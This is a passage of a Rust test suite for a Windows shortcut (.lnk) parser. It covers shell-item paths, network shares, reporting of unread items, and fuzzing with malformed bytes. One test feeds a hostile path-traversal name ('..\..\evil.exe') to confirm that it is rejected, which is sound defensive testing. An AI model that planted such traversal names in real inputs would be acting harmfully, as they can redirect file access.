        latin[n - 2..].copy_from_slice(&[0xFF, 0xFF]);
        let mut bare = file_item(true, "Strxm", false, None);
        bare[17] = 0xF6;
        let s = parse(&shell_only(
            &[root_item(MY_COMPUTER), volume_item("C:\\"), bare, latin],
            "",
        ))
        .unwrap();
        assert_eq!(s.target(), Some(r"C:\Ström\Strøm ✓.exe"));
    }

    #[test]
    fn link_info_wins_over_the_shell_items() {
        // `build` with the spec's ID list spliced in after the header (HasLinkTargetIDList).
        let mut b = build(r"C:\Tools\real.exe", "-x", None);
        let flags = u32_at(&b, 0x14).unwrap() | HAS_ID_LIST;
        b[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        let tail = b.split_off(HEADER_SIZE);
        b.extend(id_list(&spec_sample()));
        b.extend(tail);
        let s = parse(&b).unwrap();
        assert_eq!(s.target(), Some(r"C:\Tools\real.exe"));
        assert_eq!(s.id_list_path.as_deref(), Some(r"C:\test\a.txt"));
        assert_eq!(s.arguments.as_deref(), Some("-x"));
    }

    #[test]
    fn a_network_share_from_the_shell_items() {
        let network = [
            0x60, 0x2C, 0x8D, 0x20, 0xEA, 0x3A, 0x69, 0x10, 0xA2, 0xD7, 0x08, 0x00, 0x2B, 0x30,
            0x30, 0x9D,
        ];
        let s = parse(&shell_only(
            &[
                root_item(network),
                network_item(0x47, "Entire Network"),
                network_item(0x46, "Microsoft Windows Network"),
                network_item(0x41, "CORP"),
                network_item(0x42, r"\\fs01"),
                network_item(0xC3, r"\\fs01\deploy"),
                file_item(false, "agent.exe", false, Some((9, "agent.exe"))),
            ],
            "",
        ))
        .unwrap();
        assert_eq!(s.target(), Some(r"\\fs01\deploy\agent.exe"));
    }

    #[test]
    fn shell_items_not_read_say_which() {
        let unread = |items: &[Vec<u8>]| {
            let s = parse(&shell_only(items, "")).unwrap();
            assert_eq!(s.target(), None);
            s.id_list_unread.unwrap()
        };
        // The users' files root (a profile the shortcut does not name).
        let users_files = [
            0x47, 0x1A, 0x03, 0x59, 0x72, 0x3F, 0xA7, 0x44, 0x89, 0xC5, 0x55, 0x95, 0xFE, 0x6B,
            0x30, 0xEE,
        ];
        assert_eq!(
            unread(&[
                root_item(users_files),
                file_item(false, "x.exe", false, None)
            ]),
            "shell item 1 of its ID list is a root folder (type 0x1F) {59031A47-3F72-44A7-89C5-5595FE6B30EE}, not read"
        );
        // A compressed folder (0x52) under a drive.
        let mut zip = vec![0, 0, 0x52, 0x67, 0xB1, 0xAC];
        zip.extend([0; 20]);
        zip[..2].copy_from_slice(&26u16.to_le_bytes());
        assert_eq!(
            unread(&[
                root_item(MY_COMPUTER),
                volume_item("C:\\"),
                file_item(true, "Temp", false, Some((9, "Temp"))),
                zip,
            ]),
            "shell item 4 of its ID list is a compressed folder (type 0x52), not read"
        );
        // A volume item without a drive name, a root alone, a name with a separator.
        let mut shell_folder = vec![0x14, 0x00, 0x2E, 0x00];
        shell_folder.extend(MY_COMPUTER);
        assert!(unread(&[root_item(MY_COMPUTER), shell_folder]).starts_with(
            "shell item 2 of its ID list is a volume (type 0x2E) without a drive name"
        ));
        assert_eq!(
            unread(&[root_item(MY_COMPUTER)]),
            "its shell items end at the root folder, before a volume or share"
        );
        assert_eq!(
            unread(&[
                root_item(MY_COMPUTER),
                volume_item("C:\\"),
                file_item(false, "A~1", false, Some((9, r"..\..\evil.exe"))),
                file_item(false, "..", false, None),
            ]),
            "shell item 4 of its ID list is a file entry (type 0x32) without a readable name, not read"
        );
        // Too many items.
        let mut many = vec![root_item(MY_COMPUTER), volume_item("C:\\")];
        many.extend((0..MAX_ITEMS).map(|_| file_item(true, "a", false, None)));
        assert_eq!(
            unread(&many),
            format!("its ID list holds more than {MAX_ITEMS} shell items")
        );
    }

    #[test]
    fn hostile_shell_items_are_errors_not_panics() {
        let good = shell_only(
            &[
                root_item(MY_COMPUTER),
                volume_item("C:\\"),
                file_item(true, "PROGRA~1", false, Some((9, "Program Files"))),
                file_item(false, "Ström", true, Some((7, "Ström.exe"))),
                file_item(false, "X.EXE", false, Some((3, "x.exe"))),
            ],
            "-a",
        );
        assert_eq!(
            parse(&good).unwrap().target(),
            Some(r"C:\Program Files\Ström.exe\x.exe")
        );
        for i in HEADER_SIZE..good.len() {
            for x in [0xFF, 0x01, 0x80] {
                let mut f = good.clone();
                f[i] ^= x;
                let _ = parse(&f);
            }
            let _ = parse(&good[..i]);
        }
        // Every item's size and every block's size at the extremes.
        for i in HEADER_SIZE..good.len() - 1 {
            for v in [0u16, 1, 2, 3, 0xFFFF] {
                let mut f = good.clone();
                f[i..i + 2].copy_from_slice(&v.to_le_bytes());
                let _ = parse(&f);
            }
        }
        // An ID list of only minimal items: bounded.
        let mut b = good[..HEADER_SIZE].to_vec();
        b[0x14..0x18].copy_from_slice(&HAS_ID_LIST.to_le_bytes());
        b.extend(0xFFFFu16.to_le_bytes());
        b.extend([3, 0, 0x31].repeat(0xFFFF / 3));
        b.resize(HEADER_SIZE + 2 + 0xFFFF, 0);
        let s = parse(&b).unwrap();
        assert_eq!(s.target(), None);
        assert!(s.id_list_unread.is_some());
    }
}
